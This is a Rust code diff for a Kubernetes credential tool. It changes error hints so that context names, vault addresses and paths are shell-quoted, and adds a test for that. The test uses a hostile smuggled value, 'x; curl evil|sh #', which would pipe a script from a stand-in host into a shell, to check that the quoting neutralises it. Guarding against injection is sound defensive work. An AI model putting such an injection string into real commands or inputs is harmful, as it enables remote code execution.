@@ -196,8 +196,8 @@ impl Explain for TrustError {
     fn hint(&self) -> Option<String> {
         match self {
             Self::OtherCluster { context, .. } => Some(format!(
-                "{{program}} trust{{profile}} --context {}",
-                context.as_deref().map_or("CONTEXT".into(), shell_word)
+                "{{program}} trust{{profile}}{{source}}{{config}} --context {}",
+                shell_word(context.as_deref().unwrap_or("CONTEXT"))
             )),
             Self::TlsOff { .. } => Some(
                 "remove `insecure-skip-tls-verify` from the kubeconfig, or allow it in the profile's `cluster` pin"
@@ -213,17 +213,19 @@ impl Explain for TrustError {
             }
             Self::Cluster(_) => Some("kubectl config view --minify".into()),
             Self::UnknownVault { address, .. } => {
-                Some(format!("{{program}} login --vault-address {}", shell_word(address)))
+                Some(format!("{{program}} login{{config}} --vault-address {}", shell_word(address)))
             }
-            Self::ContextMissing => Some("{program} trust{profile} --context CONTEXT".into()),
+            Self::ContextMissing => Some("{program} trust{profile}{source}{config} --context CONTEXT".into()),
             Self::Fingerprint { .. } | Self::NobodyToAsk { .. } => Some(
-                "{program} trust{profile} --context CONTEXT --ca-fingerprint SHA256, with the fingerprint that \
+                "{program} trust{profile}{source}{config} --context CONTEXT --ca-fingerprint SHA256, with the fingerprint that \
                  the cluster's owner told you"
                     .into(),
             ),
             Self::Declined { .. } => None,
-            Self::NotKept { path, .. } => Some(format!("make the folder of `{path}` writable")),
-            Self::Memory { path, .. } => Some(format!("look at `{path}`, and remove it if you do not miss it")),
+            Self::NotKept { path, .. } => Some(format!("make the folder of `{}` writable", shell_word(path))),
+            Self::Memory { path, .. } => {
+                Some(format!("look at `{}`, and remove it if you do not miss it", shell_word(path)))
+            }
         }
     }
 }
@@ -374,8 +376,26 @@ mod tests {
             "refused to hand this token to https://evil:6443: it belongs to https://prod:6443"
         );
         assert_eq!(refusal.why().as_deref(), Some("the kubeconfig names another server"));
-        assert_eq!(refusal.hint().as_deref(), Some("{program} trust{profile} --context CONTEXT"));
+        assert_eq!(
+            refusal.hint().as_deref(),
+            Some("{program} trust{profile}{source}{config} --context CONTEXT")
+        );
         assert_eq!(refusal.exit_code(), ExitCode::Withheld);
+    }
+
+    #[test]
+    fn a_hint_holds_foreign_words_as_one_word_each() {
+        let foreign = "x; curl evil|sh #";
+        let refusal = TrustError::OtherCluster {
+            server: EVIL.into(),
+            known: PROD.into(),
+            difference: Difference::Server,
+            context: Some(foreign.into()),
+        };
+        assert!(refusal.hint().is_some_and(|hint| hint.contains(" --context 'x; curl evil|sh #'")));
+        let refusal = TrustError::UnknownVault { address: format!("https://{foreign}"), foreign: vec![] };
+        let hint = refusal.hint();
+        assert!(hint.is_some_and(|hint| hint.contains(" --vault-address 'https://x; curl evil|sh #'")));
     }
 
     #[test]
